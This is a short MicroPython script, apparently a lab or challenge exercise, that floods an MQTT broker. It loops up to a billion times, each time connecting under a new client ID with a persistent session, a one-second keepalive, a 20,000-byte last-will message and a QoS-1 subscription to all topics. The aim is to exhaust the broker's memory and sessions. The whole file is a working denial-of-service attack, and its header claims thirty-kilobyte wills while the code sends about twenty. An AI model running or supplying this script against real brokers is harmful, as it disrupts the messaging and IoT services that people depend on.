# Connects under ever new names, with sessions that last and wills of thirty kilobytes. On: climate. Ends: fuel. Hint: caught.hidden.
from lab import room
import network
import time
from umqtt.simple import MQTTClient

wlan = network.WLAN(network.STA_IF)
wlan.active(True)
wlan.connect(room.ssid, room.wifi_password)
while not wlan.isconnected():
    time.sleep_ms(100)
client = MQTTClient(room.client_id, room.broker, room.port, room.user, room.password)
client.connect()
for number in range(10**9):
    try:
        client = MQTTClient("c%d" % number, room.broker, room.port, room.user, room.password, keepalive=1)
        client.set_last_will("w", "x" * 20000)
        client.connect(clean_session=False)
        client.subscribe("#", qos=1)
    except Exception:
        pass
    try:
        client.disconnect()
    except Exception:
        pass
